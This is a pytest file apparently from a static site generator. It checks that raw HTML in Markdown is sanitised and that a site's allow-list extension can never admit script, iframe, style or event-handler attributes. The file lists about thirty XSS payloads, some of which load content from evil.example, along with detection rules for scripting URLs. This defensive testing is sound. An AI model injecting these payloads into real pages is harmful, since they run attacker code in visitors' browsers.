"""Raw HTML in Markdown is sanitised: nothing an author (or a pasted document) writes can run.

The allow-list lives in prosiding/body.py (ALLOWED_TAGS, ALLOWED_ATTRIBUTES, URL_SCHEMES); a site
may extend it in _site.yml with `html_diizinkan`, but never with script, style, iframe, object,
embed, on* attributes or javascript: URLs. Built pages are checked the way a browser would see
them: parsed with lxml, every element and attribute inspected.
"""
from __future__ import annotations

from pathlib import Path

import lxml.html
import pytest

from prosiding.body import ALLOWED_TAGS, NEVER_ALLOWED_TAGS, LinkTargets, render_body, sanitise
from prosiding.cli import EXIT_CONTENT_ERROR, main
from prosiding.errors import SourceRef
from prosiding.model import HtmlAllowance
from sitemaker import make_site

# Each line is written into a Markdown body as it is; the marker "xss" is in every payload, so a
# surviving piece is easy to spot in a failure message.
PAYLOADS = [
    "<script>alert('xss')</script>",
    "<SCRIPT SRC=http://evil.example/xss.js></SCRIPT>",
    '<img alt="xss" onerror="alert(\'xss\')">',
    '<a href="javascript:alert(\'xss\')">klik xss</a>',
    '<a href="JaVaScRiPt:alert(\'xss\')">klik xss</a>',
    '<a href="&#106;avascript:alert(\'xss\')">klik xss</a>',
    '<a href="  javascript:alert(\'xss\')">klik xss</a>',
    '<a href="java&#x09;script:alert(\'xss\')">klik xss</a>',
    '<a href="vbscript:msgbox(\'xss\')">klik xss</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgneHNzJyk8L3NjcmlwdD4=">klik xss</a>',
    '<iframe src="https://evil.example/xss"></iframe>',
    '<iframe srcdoc="<script>alert(\'xss\')</script>"></iframe>',
    '<object data="xss.swf"></object>',
    '<embed src="xss.swf">',
    "<svg onload=\"alert('xss')\"><script>alert('xss')</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert('xss')>",
    "<style>body { background: url(javascript:alert('xss')) }</style>",
    '<div style="background:url(javascript:alert(\'xss\'))">xss</div>',
    '<p onclick="alert(\'xss\')" onmouseover="alert(\'xss\')">klik xss</p>',
    '<details open ontoggle="alert(\'xss\')"><summary>xss</summary></details>',
    '<form action="javascript:alert(\'xss\')"><button formaction="javascript:alert(\'xss\')">xss</button></form>',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(\'xss\')">',
    '<base href="javascript:alert(\'xss\')//">',
    '<link rel="stylesheet" href="https://evil.example/xss.css">',
    "<noscript><p title=\"</noscript><img src=x onerror=alert('xss')>\"></noscript>",
    "<template><script>alert('xss')</script></template>",
    "<!-- <script>alert('xss')</script> -->",
    "[klik xss](javascript:alert('xss'))",
    "[klik xss](<javascript:alert('xss')>)",
    "![xss](javascript:alert('xss'))",
    'Paragraf xss dengan atribut {: onclick="alert(\'xss\')" }',
    "## Judul xss {: onmouseover=\"alert('xss')\" }",
]

URL_ATTRIBUTES = {"href", "src", "action", "formaction", "data", "poster", "background", "cite", "srcset", "xlink:href"}
SCRIPTING_SCHEMES = ("javascript:", "vbscript:", "data:")


def problems_in(document: lxml.html.HtmlElement, *, theme_scripts: bool) -> list[str]:
    """Everything in a parsed page that could run code or load a page into this one."""
    found = []
    for element in document.iter():
        if not isinstance(element.tag, str):
            continue  # comments and processing instructions do not run
        tag = element.tag.lower()
        if tag == "script":
            src = element.get("src", "")
            if theme_scripts and element.get("type") == "application/ld+json" and "<" not in (element.text or ""):
                continue  # the theme's JSON-LD data block: never run, and no markup can close it early
            if not (theme_scripts and src.endswith(("_static/search.js", "_static/cite.js")) and not (element.text or "").strip()):
                found.append(f"<script src={src!r}>{element.text or ''}</script>")
        elif tag in NEVER_ALLOWED_TAGS and (not theme_scripts or b"xss" in lxml.html.tostring(element)):
            found.append(f"<{tag}>")  # on a built page, the theme's own <meta>, <link> and <noscript> are fine
        for name, value in element.attrib.items():
            if name.lower().startswith("on"):
                found.append(f"<{tag} {name}={value!r}>")
            cleaned = "".join(value.split()).lower()
            if name.lower() in URL_ATTRIBUTES and cleaned.startswith(SCRIPTING_SCHEMES):
                found.append(f"<{tag} {name}={value!r}>")
    return found


def test_every_payload_is_sanitised_away_on_its_own():
    for payload in PAYLOADS:
        html = render_body(
            payload + "\n", source_rel="tentang.md", page_url="tentang/index.html", ref=SourceRef("content/tentang.md"),
            body_line=4, targets=LinkTargets({}, {}),
        ).body.html
        fragment = lxml.html.fragment_fromstring(html or "<p></p>", create_parent="div")
        assert problems_in(fragment, theme_scripts=False) == [], f"{payload!r} → {html!r}"


@pytest.fixture
def hostile_site(tmp_path: Path) -> Path:
    """A site whose every page kind carries the payloads in its body."""
    body = "Teks biasa.\n\n" + "\n\n".join(PAYLOADS) + "\n"
    return make_site(tmp_path, {
        "content/_site.yml": "judul: Prosiding Uji\n",
        "content/index.md": "---\njudul: Beranda\n---\n" + body,
        "content/tentang.md": "---\njudul: Tentang\n---\n" + body,
        "content/seminar/s/index.md": "---\njudul: Seminar\ntanggal: 2014-10-02\n---\n" + body,
        "content/seminar/s/nusa.md": "---\njudul: Nusa\nketua: Sri Widarti\n---\n" + body,
        "content/berita/kabar.md": "---\njudul: Kabar\ntanggal: 2014-10-03\n---\n" + body,
        "content/orang/sri-widarti.md": "---\nnama: Sri Widarti\n---\n" + body,
        "content/instansi/humas.md": "---\nnama: Bagian Humas\n---\n" + body,
    })


def build_pages(site: Path, capsys) -> dict[str, lxml.html.HtmlElement]:
    code = main(["--source", str(site), "build"])
    err = capsys.readouterr().err
    assert code == 0, err
    output = site / "output"
    return {p.relative_to(output).as_posix(): lxml.html.document_fromstring(p.read_bytes()) for p in sorted(output.rglob("*.html"))}


def test_built_pages_carry_no_script_handler_or_javascript_url_from_content(hostile_site: Path, capsys):
    pages = build_pages(hostile_site, capsys)
    for path in ["index.html", "tentang/index.html", "seminar/s/index.html", "seminar/s/nusa/index.html",
                 "berita/kabar/index.html", "orang/sri-widarti/index.html", "instansi/humas/index.html"]:
        document = pages[path]
        assert "Teks biasa." in document.text_content(), path  # the body is there, only the danger is gone
        assert problems_in(document, theme_scripts=True) == [], path
    for path, document in pages.items():  # listings, search and archive pages show summaries of the same bodies
        assert problems_in(document, theme_scripts=True) == [], path


def test_harmless_html_survives(tmp_path: Path, capsys):
    site = make_site(tmp_path, {
        "content/tentang.md": (
            "---\njudul: Tentang\n---\n"
            '<details><summary>Rincian</summary><p>Isi <abbr title="Pendidikan dan Pelatihan">Diklat</abbr></p></details>\n\n'
            '<table><tr><th scope="col" style="text-align:right">Angka</th></tr><tr><td>1</td></tr></table>\n\n'
            '<a href="https://example.org/" title="Contoh">tautan</a> <kbd>Ctrl</kbd> <mark>penting</mark>\n'
        ),
    })
    document = build_pages(site, capsys)["tentang/index.html"]
    assert document.xpath("//main//details/summary")[0].text == "Rincian"
    assert document.xpath("//abbr/@title") == ["Pendidikan dan Pelatihan"]
    assert document.xpath("//th/@scope") == ["col"]
    assert document.xpath("//a[text()='tautan']/@href") == ["https://example.org/"]
    assert document.xpath("//kbd")[0].text == "Ctrl" and document.xpath("//mark")[0].text == "penting"


# --- html_diizinkan: a site's own extension of the allow-list -------------------------------------


VIDEO_PAGE = (
    "---\njudul: Tentang\n---\n"
    '<video src="../rekaman.mp4" controls width="320" onplay="alert(\'xss\')">'
    '<source src="javascript:alert(\'xss\')" type="video/mp4"></video>\n\n'
    '<p data-kelompok="nusa" onclick="alert(\'xss\')">Kelompok</p>\n'
)


def test_html_diizinkan_extends_the_allow_list(tmp_path: Path, capsys):
    site = make_site(tmp_path, {
        "content/_site.yml": (
            "judul: Prosiding Uji\n"
            "html_diizinkan:\n"
            "  tag: [video, source]\n"
            "  atribut:\n"
            "    video: [src, controls, width]\n"
            "    source: [src, type]\n"
            "    '*': [data-kelompok]\n"
        ),
        "content/rekaman.mp4": b"\x00\x00\x00\x18ftypmp42",
        "content/tentang.md": VIDEO_PAGE,
    })
    document = build_pages(site, capsys)["tentang/index.html"]
    (video,) = document.xpath("//video")
    assert dict(video.attrib) == {"src": "../rekaman.mp4", "controls": "", "width": "320"}
    assert dict(video.xpath("source")[0].attrib) == {"type": "video/mp4"}  # the javascript: src is gone
    assert document.xpath("//p[@data-kelompok='nusa']/text()") == ["Kelompok"]
    assert problems_in(document, theme_scripts=True) == []


def test_without_html_diizinkan_the_same_page_loses_video_and_data_attributes(tmp_path: Path, capsys):
    site = make_site(tmp_path, {"content/rekaman.mp4": b"\x00", "content/tentang.md": VIDEO_PAGE})
    document = build_pages(site, capsys)["tentang/index.html"]
    assert document.xpath("//video | //source | //*[@data-kelompok]") == []


@pytest.mark.parametrize(
    ("setting", "message"),
    [
        ("  tag: [video, script]\n", "content/_site.yml:3: html_diizinkan.tag.1: \"script\" can never be allowed: it could run code or load another page in a reader's browser"),
        ("  tag:\n    - style\n", "content/_site.yml:4: html_diizinkan.tag.0: \"style\" can never be allowed: it could run code or load another page in a reader's browser"),
        ("  tag: [iframe]\n", "content/_site.yml:3: html_diizinkan.tag.0: \"iframe\" can never be allowed: it could run code or load another page in a reader's browser"),
        ("  tag: [object]\n", "content/_site.yml:3: html_diizinkan.tag.0: \"object\" can never be allowed: it could run code or load another page in a reader's browser"),
        ("  tag: [embed]\n", "content/_site.yml:3: html_diizinkan.tag.0: \"embed\" can never be allowed: it could run code or load another page in a reader's browser"),
        ("  tag: [Video]\n", "content/_site.yml:3: html_diizinkan.tag.0: \"Video\" is not an HTML tag name (lower case, e.g. video)"),
        ("  tag: ['*']\n", "content/_site.yml:3: html_diizinkan.tag: \"*\" is not an HTML tag name (name each tag to allow)"),
        ("  tag: [video]\n  atribut:\n    video: [src, onplay]\n",
         "content/_site.yml:5: html_diizinkan.atribut.video.1: \"onplay\" can never be allowed: it could run code in a reader's browser"),
        ("  atribut:\n    '*': [ONCLICK]\n", "content/_site.yml:4: html_diizinkan.atribut.*.0: \"ONCLICK\" is not an HTML attribute name (lower case, e.g. controls)"),
        ("  atribut:\n    '*': [onclick]\n", "content/_site.yml:4: html_diizinkan.atribut.*.0: \"onclick\" can never be allowed: it could run code in a reader's browser"),
        ("  atribut:\n    p: [srcdoc]\n", "content/_site.yml:4: html_diizinkan.atribut.p.0: \"srcdoc\" can never be allowed: it could run code in a reader's browser"),
        ("  atribut:\n    script: [src]\n", "content/_site.yml:4: html_diizinkan.atribut.script: \"script\" can never be allowed: it could run code or load another page in a reader's browser"),
        ("  atribut:\n    video: [src]\n", "content/_site.yml:3: html_diizinkan.atribut: \"video\" is not an allowed tag; list it under tag: as well"),
        ("  tags: [video]\n", "content/_site.yml:3: html_diizinkan: 'tags' is not a known field (keys are Indonesian: did you mean 'tag'?); known fields here: atribut, tag"),
        ("  tag: video\n", "content/_site.yml:3: html_diizinkan.tag: expected a list (lines starting with '- '), found \"video\""),
    ],
)
def test_html_diizinkan_can_never_allow_what_runs_code(setting: str, message: str, tmp_path: Path, capsys):
    site = make_site(tmp_path, {"content/_site.yml": "judul: Prosiding Uji\nhtml_diizinkan:\n" + setting, "content/tentang.md": "---\njudul: T\n---\n"})
    code = main(["--source", str(site), "build"])
    err = capsys.readouterr().err
    assert code == EXIT_CONTENT_ERROR
    assert "Traceback" not in err
    assert err.splitlines()[:-1] == [message]
    assert not (site / "output").exists()


def test_html_diizinkan_as_text_is_an_error(tmp_path: Path, capsys):
    site = make_site(tmp_path, {"content/_site.yml": "judul: Prosiding Uji\nhtml_diizinkan: video\n"})
    assert main(["--source", str(site), "check"]) == EXIT_CONTENT_ERROR
    assert capsys.readouterr().err.splitlines()[0] == 'content/_site.yml:2: html_diizinkan: expected `key: value` lines, found "video"'


def test_a_hand_made_allowance_still_cannot_let_code_through():
    """Defence in depth: sanitise() drops the never-allowed names even if the schema was bypassed."""
    allowance = HtmlAllowance(
        tags=frozenset({"script", "iframe", "style", "video"}),
        attributes={"*": frozenset({"onclick", "srcdoc"}), "video": frozenset({"src", "onplay"}), "iframe": frozenset({"src"})},
    )
    html = sanitise(
        "<script>alert(1)</script><style>p{}</style><iframe src='https://evil.example/'></iframe>"
        "<video src='a.mp4' onplay='alert(1)'></video><p onclick='alert(1)' srcdoc='x'>p</p>",
        allowance,
    )
    assert html == '<video src="a.mp4"></video><p>p</p>'


def test_the_documented_allow_list_has_nothing_dangerous():
    assert not ALLOWED_TAGS & NEVER_ALLOWED_TAGS
